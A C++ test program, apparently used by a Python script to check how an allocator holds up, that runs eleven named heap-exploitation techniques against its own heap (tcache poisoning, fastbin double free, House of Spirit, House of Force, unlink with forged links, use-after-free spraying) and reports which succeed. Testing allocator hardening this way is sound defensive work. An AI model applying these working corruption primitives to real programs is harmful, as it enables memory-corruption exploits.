// Techniques by which heaps are exploited, as far as they go without a bug in the program.  techniques.py tries them.
//
//   techniques list              the techniques, a line each
//   techniques run NAME          ends with 0 if the technique had its way, with 10 if it had not
//   techniques order SIZE        two numbers: the distance in bytes between two blocks that were asked for one after the other,
//                                and after how many others the first one is given again when it was freed, at most 1000
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

constexpr int kWorked = 0, kFailed = 10;
constexpr size_t kSize = 64, kMany = 2000;

/// The compiler knows nothing about where a pointer points.
template <typename T>
T* opaque(T* p) {
  asm volatile("" : "+r"(p) : : "memory");
  return p;
}
char* block(size_t size) { return static_cast<char*>(opaque(malloc(size))); }
void give(void* p) { free(opaque(p)); }

/// A heap that has been in use for a while.
void warm_up(size_t size) {
  static char* blocks[kMany];
  for (int round = 0; round < 3; ++round) {
    for (char*& p : blocks) memset(p = block(size), 0x42, size);
    for (char* p : blocks) give(p);
  }
}
bool comes(const void* wanted, size_t size, size_t n) {
  for (size_t i = 0; i < n; ++i)
    if (block(size) == wanted) return true;
  return false;
}

alignas(4096) char target[1 << 14];

/// tcache poisoning: the pointer in a free block is to lead malloc to the target.
int poisoned_free_list() {
  char *a = block(kSize), *b = block(kSize);
  give(b);
  give(a);
  for (size_t word = 0; word < kSize / sizeof(char*); ++word) {
    char* const to = target;
    memcpy(opaque(a) + word * sizeof to, &to, sizeof to);
  }
  return comes(target, kSize, 100) ? kWorked : kFailed;
}
/// The same with the last byte only, which needs no address: two blocks are to become one.
int partial_overwrite() {
  char *a = block(kSize), *b = block(kSize), *kept = block(kSize);
  give(b);
  give(a);
  opaque(a)[0] = static_cast<char>(reinterpret_cast<uintptr_t>(kept));
  return comes(kept, kSize, 100) ? kWorked : kFailed;
}
/// Fast bin dup: a double free with another free in between gives one block twice.
int double_free_between() {
  char *a = block(kSize), *b = block(kSize);
  give(a);
  give(b);
  give(a);
  char* seen[200];
  for (size_t i = 0; i < 200; ++i) {
    seen[i] = block(kSize);
    for (size_t j = 0; j < i; ++j)
      if (seen[i] == seen[j]) return kWorked;
  }
  return kFailed;
}
/// House of Spirit: a block made up in the attacker's memory is freed, and given again.
int made_up_block() {
  auto* words = reinterpret_cast<size_t*>(target);
  for (size_t i = 0; i < sizeof target / sizeof *words; i += 10) words[i + 1] = 0x51;
  give(target + 16);
  return comes(target + 16, kSize, 100) ? kWorked : kFailed;
}
/// Overlapping chunks: a larger size in front of a block is to make the next larger block lie over its neighbour.
int overlapping_blocks() {
  char *a = block(kSize), *b = block(kSize), *c = block(kSize);
  const uint64_t larger = 0x91;  // 144 bytes, and a flag
  memcpy(opaque(b) - sizeof larger, &larger, sizeof larger);
  give(b);
  for (size_t i = 0; i < 100; ++i) {
    const char* large = block(2 * kSize);
    if (large <= c && c < large + 2 * kSize) return kWorked;
  }
  (void)a;
  return kFailed;
}
/// House of Force and of Orange: the size of what is free behind the last block is overwritten; then a large block is to wrap.
int overwritten_top() {
  char* last = block(100000);
  memset(opaque(last) + 100000, 0xff, 16);
  const char* far = block(static_cast<size_t>(target - last) - 4096);
  const char* next = block(kSize);
  return far && next >= target && next < target + sizeof target ? kWorked : kFailed;
}
/// Unlink: forged links in front of a block are to write a pointer to where the attacker says.
int forged_links() {
  char *a = block(1000), *b = block(1000);
  void* victim = a;
  const uint64_t forged[4] = {0, 0x3f0, reinterpret_cast<uint64_t>(&victim) - 24, reinterpret_cast<uint64_t>(&victim) - 16};
  memcpy(a, forged, sizeof forged);
  const uint64_t sizes[2] = {0x3f0, 0x400};
  memcpy(opaque(b) - sizeof sizes, sizes, sizeof sizes);
  give(b);
  return opaque(&victim)[0] != a ? kWorked : kFailed;
}
/// An object is used after its free, when another of its size holds the attacker's bytes: one try at once.
int reuse_at_once() {
  char* p = block(kSize);
  give(p);
  return block(kSize) == p ? kWorked : kFailed;
}
/// The same with as many tries as the attacker likes.
int reuse_by_spraying() {
  char* p = block(kSize);
  give(p);
  return comes(p, kSize, 4 * kMany) ? kWorked : kFailed;
}
/// The same across sizes: all blocks of the slab are freed, and blocks of another size are to get its pages.
int reuse_across_sizes() {
  static char* blocks[kMany];
  for (char*& p : blocks) p = block(kSize);
  const uintptr_t page = reinterpret_cast<uintptr_t>(blocks[kMany / 2]) >> 12;
  for (char* p : blocks) give(p);
  for (size_t i = 0; i < 20 * kMany; ++i)
    if (reinterpret_cast<uintptr_t>(block(512)) >> 12 == page) return kWorked;
  return kFailed;
}
/// The attacker's block is to lie right behind the one that overflows.
int neighbour_at_once() {
  const char *a = block(kSize), *b = block(kSize);
  return b == a + kSize || a == b + kSize ? kWorked : kFailed;
}

struct Technique {
  const char* name;
  int (*run)();
};
#define T(name) \
  { #name, name }
constexpr Technique kTechniques[] = {T(poisoned_free_list), T(partial_overwrite),  T(double_free_between), T(made_up_block),
                                     T(overlapping_blocks), T(overwritten_top),    T(forged_links),        T(reuse_at_once),
                                     T(reuse_by_spraying),  T(reuse_across_sizes), T(neighbour_at_once)};

int list() {
  for (const Technique& t : kTechniques) puts(t.name);
  return 0;
}
int run(const char* name) {
  warm_up(kSize);
  for (const Technique& t : kTechniques)
    if (!strcmp(t.name, name)) return t.run();
  return 2;
}
int order(size_t size) {
  warm_up(size);
  char *a = block(size), *b = block(size);
  const long distance = b - a;
  give(a);
  size_t n = 0;
  while (n < 1000 && block(size) != a) ++n;
  return printf("%ld %zu\n", distance, n) < 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && !strcmp(argv[1], "list")) return list();
  if (argc == 3 && !strcmp(argv[1], "run")) return run(argv[2]);
  if (argc == 3 && !strcmp(argv[1], "order")) return order(strtoul(argv[2], nullptr, 10));
  fputs("usage: techniques list | run NAME | order SIZE\n", stderr);
  return 2;
}
